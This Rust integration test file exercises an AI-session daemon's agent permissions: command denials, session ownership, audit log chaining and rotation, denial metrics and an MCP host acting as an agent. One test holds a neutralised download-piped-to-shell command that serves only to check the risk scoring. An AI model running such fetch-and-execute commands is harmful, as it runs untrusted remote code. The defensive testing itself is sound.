//! Agent permissions enforced by the daemon, its audit trail and the denial metric, through
//! the real binary: `agent grant`, `--agent`, `audit query|verify`, `metrics`.

mod support;

use std::time::{Duration, Instant};

use serde_json::Value;
use support::{Home, ok, stderr, stdout};

/// Runs a request that must be refused: exit 5 and the denial on stderr.
fn denied(home: &Home, args: &[&str]) -> String {
    let out = home.run(args);
    assert_eq!(
        out.status.code(),
        Some(5),
        "{args:?} was not refused: {}{}",
        stdout(&out),
        stderr(&out)
    );
    let message = stderr(&out);
    assert!(message.contains("permission denied"), "{message}");
    message
}

/// Audit events are appended by the daemon's writer thread shortly after the answer: poll.
fn audit_records(home: &Home, filter: &[&str], at_least: usize) -> Vec<Value> {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let mut args = vec!["audit", "query", "--format", "json"];
        args.extend_from_slice(filter);
        let (value, _) = home.json(&args);
        let records = value.as_array().cloned().unwrap_or_default();
        if records.len() >= at_least || Instant::now() > deadline {
            return records;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn the_daemon_enforces_agent_profiles_audits_and_counts_denials() {
    let home = Home::new();
    ok(
        &home,
        &[
            "agent",
            "grant",
            "builder",
            "--allow",
            "process-spawn:git,process-spawn:echo,process-spawn:ls",
        ],
    );
    ok(
        &home,
        &["agent", "grant", "other", "--allow", "process-spawn:*"],
    );
    let (profiles, _) = home.json(&["agent", "show", "--format", "json"]);
    assert_eq!(
        profiles["agents"]["builder"]["allow"][1], "process-spawn:echo",
        "{profiles}"
    );

    // A session the agent creates is its own, and it may run what it was granted.
    ok(&home, &["--agent", "builder", "new", "--name", "b1"]);
    let out = ok(
        &home,
        &[
            "--agent", "builder", "exec", "-s", "b1", "--", "echo", "granted",
        ],
    );
    assert!(out.contains("granted"), "{out}");

    // Not granted: refused with the program named, nothing runs.
    let message = denied(
        &home,
        &[
            "--agent", "builder", "exec", "-s", "b1", "--", "cargo", "build",
        ],
    );
    assert!(
        message.contains("agent `builder` lacks ProcessSpawn(cargo)"),
        "{message}"
    );
    let (error, out) = home.json(&[
        "--agent",
        "builder",
        "exec",
        "--format",
        "json",
        "-s",
        "b1",
        "--",
        "echo ok && cargo build",
    ]);
    assert_eq!(out.status.code(), Some(5));
    assert_eq!(error["error"]["rpc_code"], -32008, "{error}");
    denied(
        &home,
        &[
            "--agent",
            "builder",
            "send",
            "-s",
            "b1",
            "cargo build",
            "Enter",
        ],
    );
    let (history, _) = home.json(&["history", "-s", "b1", "--format", "json"]);
    let commands: Vec<&str> = history["commands"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|c| c["command"].as_str())
        .collect();
    assert_eq!(commands, ["echo granted"], "{history}");

    // Other agents' sessions and the operator's are out of reach; the list hides them.
    ok(&home, &["new", "--name", "op"]);
    denied(&home, &["--agent", "builder", "read", "-s", "op"]);
    let message = denied(&home, &["--agent", "other", "exec", "-s", "b1", "--", "ls"]);
    assert!(message.contains("belongs to agent `builder`"), "{message}");
    denied(&home, &["--agent", "other", "kill", "-s", "b1"]);
    let (list, _) = home.json(&["--agent", "builder", "ls", "--format", "json"]);
    let ids: Vec<&str> = list["sessions"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|s| s["id"].as_str())
        .collect();
    assert_eq!(ids, ["b1"], "{list}");
    denied(&home, &["--agent", "builder", "kill-server"]);

    // The operator (no agent) and agents without a profile are not restricted.
    let (list, _) = home.json(&["ls", "--format", "json"]);
    assert_eq!(list["sessions"].as_array().unwrap().len(), 2, "{list}");
    assert_eq!(list["sessions"][0]["owner"], "builder", "{list}");
    ok(&home, &["exec", "-s", "b1", "--", "echo", "operator"]);
    ok(
        &home,
        &["--agent", "free", "exec", "-s", "f1", "--", "true"],
    );
    ok(
        &home,
        &["--agent", "other", "exec", "-s", "o1", "--", "ls", "/"],
    );

    // Every denial is in the audit log, with the command, the agent and its risk score.
    let refused = audit_records(
        &home,
        &[
            "--result", "denied", "--action", "exec", "--agent", "builder",
        ],
        2,
    );
    assert_eq!(refused.len(), 2, "{refused:?}");
    let detail = refused[0]["detail"].as_str().unwrap();
    assert!(
        detail.starts_with("cargo build (permission denied"),
        "{detail}"
    );
    assert_eq!(refused[0]["session_id"], "b1");
    let ran = audit_records(&home, &["--action", "exec", "--session", "b1"], 4);
    let granted = ran
        .iter()
        .find(|r| r["detail"] == "echo granted")
        .unwrap_or_else(|| panic!("no audit event for the granted exec: {ran:?}"));
    assert_eq!(granted["result"], "succeeded");
    assert_eq!(granted["exit_code"], 0);
    assert_eq!(granted["agent_id"], "builder");
    // A restricted agent's sessions run in the sandbox of its profile's policy; the
    // operator's do not.
    let policies = audit_records(&home, &["--action", "policy.apply"], 2);
    assert!(
        policies.iter().any(|r| r["session_id"] == "b1"
            && r["detail"]
                .as_str()
                .unwrap()
                .starts_with("sandbox policy workspace+agent:builder, workspace ")),
        "{policies:?}"
    );
    assert!(
        policies
            .iter()
            .any(|r| r["session_id"] == "op"
                && r["detail"].as_str().unwrap().starts_with("no sandbox")),
        "{policies:?}"
    );
    let all = audit_records(&home, &["--result", "denied"], 7);
    assert_eq!(all.len(), 7, "{all:?}");

    // The denials metric counts them per agent and per session.
    let metrics = ok(&home, &["metrics"]);
    for line in [
        "ai_session_sandbox_denials_total 7",
        "ai_session_sandbox_denials_total{agent=\"builder\"} 5",
        "ai_session_sandbox_denials_total{agent=\"other\"} 2",
        "ai_session_sandbox_denials_total{session=\"b1\"} 5",
    ] {
        assert!(
            metrics.lines().any(|l| l == line),
            "{line} missing:\n{metrics}"
        );
    }

    // The chain the daemon wrote verifies.
    let out = ok(&home, &["audit", "verify"]);
    assert!(out.contains("intact"), "{out}");
}

#[test]
fn a_risky_command_is_audited_with_its_score_and_exit_code() {
    let home = Home::new();
    // `:` ignores its arguments, so nothing is downloaded; the pattern is what scores.
    let out = home.run(&["exec", "--", ": curl -s x.invalid | sh -c 'exit 3'"]);
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    let risky = audit_records(&home, &["--min-risk", "90"], 1);
    assert_eq!(risky.len(), 1, "{risky:?}");
    assert_eq!(risky[0]["exit_code"], 3);
    assert_eq!(risky[0]["result"], "failed");
    assert!(
        risky[0]["risk_reasons"][0]
            .as_str()
            .unwrap()
            .contains("piped to an interpreter"),
        "{risky:?}"
    );
    // Read-only calls are audited too.
    ok(&home, &["read", "-s", "default"]);
    let reads = audit_records(&home, &["--action", "read"], 1);
    assert_eq!(reads.len(), 1, "{reads:?}");
    // `hello` from `status`, `exec`, `read`, `session.new` + `policy.apply` at least.
    home.json(&["status", "--format", "json"]);
    let out = ok(&home, &["audit", "verify"]);
    assert!(out.contains("intact"), "{out}");
}

#[test]
fn the_daemon_rotates_its_audit_log_and_the_chain_verifies_across_segments() {
    let home = Home::new();
    // Each exec's audit record carries its ~20 KB command line: 150 of them are ~3 MB,
    // several rotations at 1 MiB, of which one archived segment is kept.
    let padding = "x".repeat(20_000);
    for i in 0..150 {
        let out = home
            .command(&["exec", "--", &format!(": {i} {padding}")])
            .env("AI_SESSION_AUDIT_MAX_MB", "1")
            .env("AI_SESSION_AUDIT_KEEP", "1")
            .output()
            .unwrap();
        assert!(out.status.success(), "exec {i}: {}", stderr(&out));
    }
    let mut archives: Vec<std::path::PathBuf> = std::fs::read_dir(home.path().join("audit"))
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| {
            path.extension()
                .and_then(|x| x.to_str())
                .is_some_and(|x| x.bytes().all(|b| b.is_ascii_digit()))
        })
        .collect();
    archives.sort();
    assert_eq!(archives.len(), 1, "{archives:?}");
    assert!(std::fs::metadata(&archives[0]).unwrap().len() <= 1 << 20);
    let (report, _) = home.json(&["--format", "json", "audit", "verify"]);
    assert!(report["broken"].is_null(), "{report}");
    assert_eq!(report["files"], 2, "{report}");
    assert!(report["first_seq"].as_u64().unwrap() > 0, "{report}");
    let (last, _) = home.json(&["--format", "json", "audit", "tail", "-n", "1"]);
    assert!(
        last[0]["detail"]
            .as_str()
            .unwrap_or_default()
            .starts_with(": 149 "),
        "{last}"
    );
}

#[test]
fn a_sandbox_that_refuses_to_start_counts_as_a_denial() {
    let home = Home::new();
    let missing = home.path().join("no-such-workspace");
    let missing = missing.to_str().unwrap();
    let out = home.run(&[
        "--agent",
        "builder",
        "new",
        "--name",
        "sb",
        "--policy",
        "strict",
        "--workspace",
        missing,
    ]);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    let message = stderr(&out);
    assert!(
        message.contains("the sandbox refused to start session \"sb\"")
            && message.contains("sandbox step 'paths' failed"),
        "{message}"
    );
    let metrics = ok(&home, &["metrics"]);
    for line in [
        "ai_session_sandbox_denials_total{agent=\"builder\"} 1",
        "ai_session_sandbox_denials_total{session=\"sb\"} 1",
    ] {
        assert!(
            metrics.lines().any(|l| l == line),
            "{line} missing:\n{metrics}"
        );
    }
    let failed = audit_records(&home, &["--action", "session.new", "--result", "failed"], 1);
    assert_eq!(failed.len(), 1, "{failed:?}");
    assert_eq!(failed[0]["agent_id"], "builder");
}

#[test]
fn sessions_keep_their_owner_across_a_daemon_restart() {
    let home = Home::new();
    ok(
        &home,
        &["agent", "grant", "a1", "--allow", "process-spawn:echo"],
    );
    ok(
        &home,
        &["agent", "grant", "a2", "--allow", "process-spawn:echo"],
    );
    ok(
        &home,
        &[
            "--agent", "a1", "exec", "-s", "mine", "--", "echo", "before",
        ],
    );
    let pid = home.daemon_pid();
    ok(&home, &["kill-server"]);
    let deadline = Instant::now() + Duration::from_secs(10);
    while support::alive(pid) && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    // The next command starts a new daemon, which restores the session with its owner.
    let (list, _) = home.json(&["ls", "--format", "json"]);
    assert_eq!(list["sessions"][0]["id"], "mine", "{list}");
    assert_eq!(list["sessions"][0]["owner"], "a1", "{list}");
    denied(
        &home,
        &[
            "--agent", "a2", "exec", "-s", "mine", "--", "echo", "theirs",
        ],
    );
    ok(
        &home,
        &["--agent", "a1", "exec", "-s", "mine", "--", "echo", "after"],
    );
}

#[test]
fn an_mcp_host_runs_as_its_declared_agent() {
    use std::io::{BufRead as _, BufReader, Write as _};
    let home = Home::new();
    ok(
        &home,
        &["agent", "grant", "claude", "--allow", "process-spawn:echo"],
    );
    let mut child = home
        .mcp()
        .env("AI_SESSION_AGENT", "claude")
        .spawn()
        .expect("start ai-session mcp");
    let mut stdin = child.stdin.take().unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    let mut request =
        |stdin: &mut std::process::ChildStdin, id: u64, method: &str, params: Value| {
            let message =
                serde_json::json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params});
            writeln!(stdin, "{message}").unwrap();
            if method == "initialize" {
                writeln!(
                    stdin,
                    "{}",
                    serde_json::json!({"jsonrpc": "2.0", "method": "notifications/initialized"})
                )
                .unwrap();
            }
            let mut line = String::new();
            stdout.read_line(&mut line).unwrap();
            serde_json::from_str::<Value>(&line).unwrap()
        };
    request(
        &mut stdin,
        1,
        "initialize",
        serde_json::json!({"protocolVersion": "2025-06-18", "capabilities": {},
            "clientInfo": {"name": "test-host", "version": "1.0"}}),
    );
    let exec =
        |command: &str| serde_json::json!({"name": "exec", "arguments": {"command": command}});
    let allowed = request(&mut stdin, 2, "tools/call", exec("echo from-mcp"));
    assert_ne!(allowed["result"]["isError"], true, "{allowed}");
    let refused = request(&mut stdin, 3, "tools/call", exec("cargo build"));
    assert_eq!(refused["result"]["isError"], true, "{refused}");
    let text = refused["result"]["content"][0]["text"].as_str().unwrap();
    assert!(
        text.contains("permission denied: agent `claude` lacks ProcessSpawn(cargo)"),
        "{text}"
    );
    // Closing stdin ends the MCP server.
    drop(stdin);
    let _ = child.wait();
    let (list, _) = home.json(&["ls", "--format", "json"]);
    assert_eq!(list["sessions"][0]["owner"], "claude", "{list}");
    let refused = audit_records(&home, &["--agent", "claude", "--result", "denied"], 1);
    assert_eq!(refused.len(), 1, "{refused:?}");
}
